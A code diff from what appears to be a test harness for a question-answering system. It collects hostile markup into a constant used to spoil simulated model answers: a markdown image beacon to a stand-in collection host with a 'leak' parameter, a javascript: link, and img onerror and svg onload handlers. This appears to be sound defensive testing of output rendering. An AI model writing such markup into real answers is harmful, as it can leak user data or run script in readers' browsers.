@@ -53,10 +53,17 @@ function refusalOf(prompt: string): string {
   return /write exactly:?\s*"?([^"\n]+)/i.exec(prompt)?.[1]?.trim() ?? 'The passages do not say anything about this question.';
 }
 
+/** What a model may be talked into writing; whoever renders it as markup fetches the picture or sets `window.__x`. */
+const hostileMarkup = [
+  '![chart](https://collect.lectern.test/pixel?leak=1)',
+  '[click here](javascript:window.__x=1)',
+  '<img src="https://collect.lectern.test/pixel" onerror="window.__x=1">',
+  '<svg onload="window.__x=1"></svg>',
+].join(' ');
+
 function spoil(text: string, mode: string): string {
   if (mode === 'cites-unknown') return `${text} A later study found the opposite [97].`;
-  if (mode === 'writes-image')
-    return `${text} ![chart](https://collect.lectern.test/pixel?leak=1) [click here](javascript:alert(1)) <img src=x onerror=alert(1)>`;
+  if (mode === 'writes-image') return `${text} ${hostileMarkup}`;
   return mode === 'broken-json' ? `Sure! Here is the JSON:\n{"answer": "${text.slice(0, 20)}` : text;
 }
 
